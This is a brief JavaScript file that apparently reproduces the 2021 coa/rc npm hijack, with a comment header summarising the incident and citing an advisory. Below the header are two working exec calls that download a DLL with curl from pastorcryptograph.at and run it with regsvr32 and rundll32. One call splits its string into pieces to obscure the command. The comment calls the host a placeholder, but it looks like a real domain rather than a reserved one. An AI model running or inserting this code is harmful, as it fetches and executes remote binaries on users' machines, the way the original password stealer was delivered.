// Incident: coa 2.0.3+/3.1.3 and rc 1.2.9/1.3.9/2.3.9 (npm), 4 November 2021.
// Hijacked maintainer accounts published versions whose preinstall hook ran an
// obfuscated script; on Windows it downloaded a DLL (the Danabot password stealer) with
// curl and loaded it with rundll32. Reference: https://github.com/advisories/GHSA-73qr-pfmq-6rp8
// Reproduction (own code, placeholder host).
const cp = require('child_process');
const parts = ['cur', 'l ht', 'tps://pastorcryptograph.at/3/', 'sdd.dll -o compile.dll'];
cp.exec(parts.join('') + ' && regsvr32.exe -s compile.dll', function () {});
cp.exec('curl https://pastorcryptograph.at/3/sdd.dll -o compile.dll && rundll32 compile.dll,DllRegisterServer');
